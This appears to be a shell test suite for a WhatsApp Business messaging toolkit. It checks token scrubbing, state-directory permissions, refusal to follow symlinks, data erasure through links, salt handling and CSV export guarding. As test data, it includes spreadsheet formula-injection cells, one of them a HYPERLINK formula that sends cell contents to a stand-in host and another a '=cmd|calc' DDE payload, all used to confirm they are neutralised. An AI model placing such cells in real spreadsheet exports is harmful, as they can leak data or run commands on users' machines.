#!/bin/sh
# Secrets and files: echoed tokens scrubbed, $WA_HOME trusted, no links followed, wa-forget through links, the salt, CSV cells.
. "$(dirname "$0")/lib.sh"

PIDS=
trap 'for p in $PIDS; do kill "$p" 2>/dev/null; done; rm -rf "$TMP"' EXIT
cd "$TMP" || exit 1
# Made up for the test, shaped like a real one; never a real secret.
TOKEN=EAAGm0PX4ZCpsBAKfake$$tokenForTheTests0123456789
WA_PHONE_NUMBER_ID=106540352242922
WA_WABA_ID=102290129340398
export WA_PHONE_NUMBER_ID WA_WABA_ID

# --- the Graph API echoes the token in a 401 ---
WA_TOKEN=$TOKEN start_mock echo --echo-token ||
	{ echo "Bail out! bin/mock-graph did not start (make build-tests)"; exit 1; }
URL=http://127.0.0.1:$PORT/v21.0
mkdir -p tok
printf '%s\n' '{"id":"1","phone":"+447700900001","opt_in":true}' >tok/r.jsonl
# run NAME TOKEN PROGRAM ARGS...: the program against the echoing mock, its output in tok/NAME.*
run() {
	_nm=$1 _tk=$2; shift 2
	WA_HOME=$TMP/tok/home-$_nm WA_TOKEN=$_tk WA_API_URL=$URL "$@" \
		>"tok/$_nm.out" 2>"tok/$_nm.err"
	echo $? >"tok/$_nm.rc"
}
run send "$TOKEN" wa-send -c t -t hello tok/r.jsonl
run tmpl "$TOKEN" wa-templates sync
run prof "$TOKEN" wa-profile get
# a token of another shape is scrubbed because it is the one configured
OTHER=not-eaa-shaped-$$-secret
run other "$OTHER" wa-send -c t -t hello tok/r.jsonl
check_same "the mock did echo it (sanity)" 1 \
	"$(curl -s -H "Authorization: Bearer $TOKEN" "$URL/$WA_PHONE_NUMBER_ID" | grep -c "$TOKEN")"
for p in send tmpl prof other; do
	check_same "$p: the account error exits 3" 3 "$(cat tok/$p.rc)"
done
check_same "no file any of them wrote holds a token (stdout, stderr, ledger, WA_HOME)" "" \
	"$(grep -rlF -e "$TOKEN" -e "$OTHER" tok | grep -v 'r.jsonl')"
check_same "wa-send: [token] in its place on stderr, stdout and the ledger" "1 1 1" \
	"$(grep -c 'Malformed access token \[token\]' tok/send.err) $(grep -c '\[token\]' tok/send.out) $(grep -c '"title":"Malformed access token \[token\]"' tok/home-send/ledger.jsonl)"
check_same "wa-templates and wa-profile: [token] on stderr" "1 1" \
	"$(grep -c 'Malformed access token \[token\]' tok/tmpl.err) $(grep -c 'Malformed access token \[token\]' tok/prof.err)"
check_same "the configured token of another shape: [token] too" 1 "$(grep -c '\[token\]' tok/other.err)"
kill "$PID"

# --- $WA_HOME that others can write to, or that is not ours ---
printf '%s\n' '{"id":"1","phone":"+447700900001","opt_in":true}' >r.jsonl
for m in 777 775 757; do
	mkdir -p -m "$m" "h$m" && chmod "$m" "h$m"
	WA_HOME=$TMP/h$m wa-send --dry-run -c t -m hi r.jsonl >out 2>err
	check_same "WA_HOME mode $m: wa-send refuses, exit 2" 2 $?
done
grep -q "state directory '$TMP/h777' is writable by everyone (mode 0777): chmod go-w '$TMP/h777'" err 2>/dev/null ||
	grep -q "chmod go-w" err
_result $? "and says what is wrong and the chmod that fixes it"
WA_HOME=$TMP/h775 wa-forget +447700900001 >/dev/null 2>&1
check_same "wa-forget too" 2 $?
mkdir -p -m 755 h755
WA_HOME=$TMP/h755 wa-send --dry-run -c t -m hi r.jsonl >/dev/null 2>&1
check_same "mode 0755 is fine" 0 $?
if [ "$(id -u)" -eq 0 ] && id nobody >/dev/null 2>&1; then
	mkdir -m 700 hother && chown nobody hother
	WA_HOME=$TMP/hother wa-send --dry-run -c t -m hi r.jsonl >/dev/null 2>err
	check_same "WA_HOME owned by another user: refused, exit 2" 2 $?
	grep -q "not to you (uid 0): chown 0" err
	_result $? "with the chown that fixes it"
else
	echo "ok $((_n + 1)) # SKIP not root: no other owner to give WA_HOME"
	echo "ok $((_n + 2)) # SKIP not root"
	_n=$((_n + 2))
fi

# --- state files are not followed through a link ---
mkdir -m 700 hl
echo '{"keep":"me"}' >victim
ln -s "$TMP/victim" hl/ledger.jsonl
WA_HOME=$TMP/hl WA_TOKEN=x WA_API_URL=http://127.0.0.1:1/v21.0 \
	wa-send -c t -m hi r.jsonl >/dev/null 2>err
check_same "a ledger that is a symbolic link is refused: exit 3" 3 $?
check_same "and what it points to is untouched" '{"keep":"me"}' "$(cat victim)"
rm hl/ledger.jsonl
printf '%s\n' +447700900001 >realsupp
ln -s "$TMP/realsupp" hl/suppress.txt
WA_HOME=$TMP/hl wa-send --dry-run -c t -m hi r.jsonl >/dev/null 2>&1
check_same "a suppression list that is a symbolic link is refused: exit 3" 3 $?
rm hl/suppress.txt
ln -s "$TMP/victim" hl/events.jsonl
WA_APP_SECRET=s-$$ WA_VERIFY_TOKEN=v-$$ WA_HOME=$TMP/hl wa-hook -l 127.0.0.1:0 >/dev/null 2>&1 &
HP=$!
sleep 1
kill "$HP" 2>/dev/null
wait "$HP"
[ $? -ne 0 ] && [ "$(cat victim)" = '{"keep":"me"}' ]
_result $? "nor a spool that is one: wa-hook stops, the target untouched"
rm hl/events.jsonl

# --- rejects files are 0600 ---
printf 'Email,Phone\nnot-an-email,12\n' >bad.csv
umask 022
wa-import --rejects rej.csv bad.csv >/dev/null 2>&1
wa-segment --rejects rej2.jsonl 'true' <<'EOF' >/dev/null 2>&1
{not json
EOF
check_same "--rejects files are created 0600 (wa-import, wa-segment)" "600 600" \
	"$(stat -c %a rej.csv) $(stat -c %a rej2.jsonl)"

# --- wa-forget through a symbolic link and a hard link ---
FH=$TMP/fh
mkdir -m 700 "$FH"
export WA_HOME=$FH
ANA='{"id":"shopify:1","first_name":"Ana","email":"ana@example.com","phone":"+5511987654321","opt_in":true,"orders":1}'
BO='{"id":"shopify:2","first_name":"Bo","email":"bo@example.com","phone":"+447700900002","opt_in":true}'
mkdir real
printf '%s\n' "$ANA" "$BO" >real/c.jsonl
ln -s "$TMP/real/c.jsonl" link.jsonl
printf '%s\n' "$ANA" "$BO" >hard1.jsonl
ln hard1.jsonl hard2.jsonl
check_status "wa-forget -f through a symbolic link: exit 0" 0 wa-forget -f link.jsonl +5511987654321
[ -L link.jsonl ] && ! grep -q Ana real/c.jsonl && grep -qx "$BO" real/c.jsonl
_result $? "the data at the real path is erased, the link stays a link, Bo stays"
wa-forget -f hard1.jsonl ana@example.com >/dev/null 2>&1
check_same "through a hard link: the other name has no Ana, still one file" "0 2 2" \
	"$(grep -c Ana hard2.jsonl) $(stat -c %h hard2.jsonl) $(wc -l <hard2.jsonl | tr -d ' ')"
check_same "and Bo's line at the other name is byte for byte the same" "$BO" "$(sed -n 2p hard2.jsonl)"

# --- journeys.jsonl and the other personal files of $WA_HOME ---
printf '%s\n' '{"event":"sent","id":"shopify:5","to":"+5521987650005","campaign":"welcome","at":"2026-11-01T10:00:00Z","wamid":"wamid.CEU"}' \
	'{"event":"sent","id":"shopify:6","to":"+447700900006","campaign":"welcome","at":"2026-11-01T10:00:00Z","wamid":"wamid.DU"}' >"$FH/journeys.jsonl"
printf '%s\n' '{"id":"shopify:5","first_name":"Ceu","phone":"+5521987650005","opt_in":true}' >"$FH/customers.jsonl"
printf '%s\n' '{"type":"order","id":"shopify:9005","customer":"shopify:5","total":3,"currency":"BRL","items":[]}' >"$FH/orders.jsonl"
exec 8>>"$FH/journeys.jsonl"	# a journey holding its log open with >>
check_status "wa-forget with no -f: exit 0" 0 wa-forget +5521987650005
echo '{"event":"sent","id":"shopify:7","campaign":"late"}' >&8
exec 8>&-
check_same "erased from journeys.jsonl, customers.jsonl and orders.jsonl" "" \
	"$(grep -l 'Ceu\|5521987650005\|wamid.CEU\|shopify:5"' "$FH/journeys.jsonl" "$FH/customers.jsonl" "$FH/orders.jsonl")"
check_same "journeys.jsonl erased in place: what a journey appends after is kept" "3 1" \
	"$(wc -l <"$FH/journeys.jsonl" | tr -d ' ') $(grep -c '"late"' "$FH/journeys.jsonl")"
echo x >"$FH/notes.txt"
wa-forget +447700900006 >/dev/null 2>err
grep -q "fh/notes.txt: not a file wa keeps" err
_result $? "a file of \$WA_HOME the table does not know is pointed out"
rm "$FH/notes.txt"

# --- what a run that died left behind ---
printf '%s\n' "$BO" >"$FH/ledger.jsonl.tmpAb12Cd"
printf '%s\n' '{"event":"attempt","id":"x"}' >"$FH/ledger.jsonl"
printf 'half' >half.jsonl
printf '%s\n' "$BO" >half.jsonl.forget-copy
wa-forget -f half.jsonl nobody@example.com >/dev/null 2>err
check_same "a stale temporary file is removed at the next run" "" "$(ls "$FH" | grep tmp)"
check_same "a write-back cut short is finished" "$BO|" "$(cat half.jsonl)|$(ls half.jsonl.* 2>/dev/null)"

# --- the salt ---
SH=$TMP/sh
mkdir -m 700 "$SH"
export WA_HOME=$SH
printf '%s\n' '{"id":"shopify:1","phone":"+5511987654321","opt_in":true}' >s.jsonl
printf '%s\n' +5511987654321 +447700900099 >"$SH/suppress.txt"
wa-forget -f s.jsonl +5511987654321 >/dev/null 2>&1
cp "$SH/suppress.txt" supp.before
grep -q '^forgotten:' supp.before
_result $? "(a forgotten number hashed in the suppression list)"
mv "$SH/salt" salt.bak
check_status "salt missing: wa-send stops, exit 2" 2 wa-send --dry-run -c t -m hi r.jsonl
grep -q 'salt: missing.*restore it from a backup' "$TMP/.out"
_result $? "and says to restore it"
check_status "salt missing: wa-forget stops, exit 2" 2 wa-forget +447700900099
check_same "no new salt was made, the list is unchanged" "no $(cat supp.before)" \
	"$([ -e "$SH/salt" ] && echo yes || echo no) $(cat "$SH/suppress.txt")"
echo garbage >"$SH/salt"
check_status "salt corrupt: wa-send exit 2" 2 wa-send --dry-run -c t -m hi r.jsonl
check_status "salt corrupt: wa-forget exit 2" 2 wa-forget +447700900099
cmp -s supp.before "$SH/suppress.txt"
_result $? "the suppression list unchanged"
mv salt.bak "$SH/salt"
WA_HOME=$TMP/sh wa-send --dry-run -c t -m hi >send.out 2>/dev/null <<'EOF'
{"id":"x","phone":"+5511987654321","opt_in":true}
EOF
check_same "with the salt back, the forgotten number is still suppressed" "skipped suppressed" \
	"$(jq -r '.event + " " + .reason' send.out)"
mkdir -m 700 fresh
WA_HOME=$TMP/fresh wa-send --dry-run -c t -m hi r.jsonl >/dev/null 2>&1
check_same "a new WA_HOME needs no salt" "0 no" "$? $([ -e fresh/salt ] && echo yes || echo no)"
printf '%s\n' '{"id":"9","phone":"+447700900009","opt_in":true}' >n.jsonl
WA_HOME=$TMP/fresh wa-forget -f n.jsonl +447700900009 >/dev/null 2>&1
check_same "and the first erasure makes one" "0 600" "$? $(stat -c %a fresh/salt)"

# --- CSV cells a spreadsheet would run ---
printf '%s\n' 'Customer ID,First Name,Last Name,Email,Phone,Note' \
	'7,=HYPERLINK("http://x.example/?"&A1),@SUM(1),e@example.com,+447700900007,-3.5' >inj.csv
wa-import -o csv --fields id,first_name,last_name,phone inj.csv >inj.out 2>/dev/null
check_same "wa-import -o csv: = @ + cells get a leading '" \
	"shopify:7,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1)\",'@SUM(1),'+447700900007" \
	"$(sed -n 2p inj.out)"
wa-import -o csv --raw-csv --fields id,first_name inj.csv >inj.raw 2>/dev/null
check_same "--raw-csv: as they are" 'shopify:7,"=HYPERLINK(""http://x.example/?""&A1)"' "$(sed -n 2p inj.raw)"
printf 'id,name,v\n1,-3.5,"\t@x"\n2,plain,ok\n' >seg.csv
check_same "wa-segment's CSV rows: - and tab guarded, the rest as it was" \
	"$(printf "id,name,v\n1,'-3.5,'\t@x\n2,plain,ok")" "$(wa-segment 'true' seg.csv)"
check_same "wa-segment --raw-csv" "$(printf 'id,name,v\n1,-3.5,\t@x\n2,plain,ok')" \
	"$(wa-segment --raw-csv 'true' seg.csv)"
wa-segment 'true' seg.csv >seg2.csv
check_same "what wa-segment wrote reads back as it was" 1 "$(wa-segment -c 'name == "-3.5"' seg2.csv)"
printf '%s\n' '{"event":"sent","id":"1","to":"+447700900001","campaign":"=cmd|calc","at":"2026-11-01T10:00:00Z","key":"=cmd|calc/1","wamid":"w1"}' >l.jsonl
check_same "wa-report -o csv: a campaign named =... is guarded" "'=cmd|calc" \
	"$(wa-report --ledger l.jsonl --events /dev/null --now 2026-11-02 -o csv | sed -n 2p | cut -d, -f1)"
check_same "and not with --raw-csv" "=cmd|calc" \
	"$(wa-report --raw-csv --ledger l.jsonl --events /dev/null --now 2026-11-02 -o csv | sed -n 2p | cut -d, -f1)"

done_testing
